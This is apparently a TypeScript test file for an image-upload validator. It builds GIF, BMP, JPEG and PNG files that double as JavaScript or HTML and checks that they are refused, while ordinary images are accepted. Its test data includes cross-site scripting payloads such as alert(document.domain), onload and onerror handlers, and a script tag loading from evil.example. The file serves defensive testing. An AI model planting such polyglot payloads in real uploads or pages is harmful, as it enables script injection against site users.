import { expect, test } from 'vitest'
import { makePng } from '../../../tests/hostile/make-file.ts'
import { photo } from '../testing/word-file.ts'
import { look } from './look.ts'

const gif = Buffer.from('47494638396101000100800000000000ffffff2c00000000010001000002024401003b', 'hex')
const jpeg = photo(false)
const bmp = Buffer.from(`424d${'00'.repeat(16)}0a0000000a000000${'00'.repeat(40)}`, 'hex')
const png = makePng(10, 10)
const behind = (picture: Buffer, tail: string) => Buffer.concat([picture, Buffer.from(tail)])
const instead = (picture: Buffer, at: number, text: string, tail = '') => {
  const other = Buffer.from(picture)
  other.write(text, at, 'latin1')
  return behind(other, tail)
}

test.for<[what: string, bytes: Buffer]>([
  ['a GIF that is a script from its width on', instead(gif, 6, '/*', '*/=1;alert(document.domain)')],
  ['a GIF that is nothing but a script', Buffer.from('GIF89a=1;alert(document.domain)//')],
  ['a GIF whose script goes on in a new line', Buffer.from('GIF89a\n=alert(1)//\0\0')],
  ['a BMP that is a script', instead(bmp, 2, '/*', '*/=1;alert(1)')],
  ['a JPEG whose first segment begins a comment', instead(jpeg, 4, '/*', '*/=alert(1)')],
  ['a JPEG with a page behind it', behind(jpeg, '<html><script>alert(1)</script></html>')],
  ['a PNG with a page behind it', behind(png, '<!DOCTYPE  HTML><p>')],
  ['a GIF with a page behind it', behind(gif, '<SCRIPT SRC=//evil.example></SCRIPT>')],
  ['a PNG with a drawing that runs', behind(png, '<svg onload=alert(1)>')],
  ['a PNG with a picture that fails', behind(png, '<img/src=x onerror=alert(1)>')],
  ['a JPEG with a frame', behind(jpeg, '<iframe srcdoc=x>')],
  ['a JPEG with an address that runs', behind(jpeg, '<a href="javascript:alert(1)">x</a>')],
])('%s is refused', async ([, bytes]) => expect(await look(bytes)).toEqual({ fault: 'notPure' }))

test.for<[what: string, bytes: Buffer, kind: string]>([
  ['GIF', gif, 'gif'],
  ['JPEG', jpeg, 'jpg'],
  ['PNG', png, 'png'],
  ['BMP', bmp, 'bmp'],
  ['JPEG with a film behind it', behind(jpeg, '\0\0\0\u0018ftypmp42'), 'jpg'],
  [
    'JPEG with what a camera says of it',
    behind(jpeg, '<?xpacket begin=""?><x:xmpmeta><rdf:RDF><dc:title>图</dc:title></rdf:RDF></x:xmpmeta>'),
    'jpg',
  ],
  ['GIF 2,365 pixels wide', instead(gif, 6, '=\t\x00\x06'), 'gif'],
])('a %s as programs write it is taken', async ([, bytes, kind]) =>
  expect(await look(bytes)).toEqual({ kind, mark: undefined }),
)
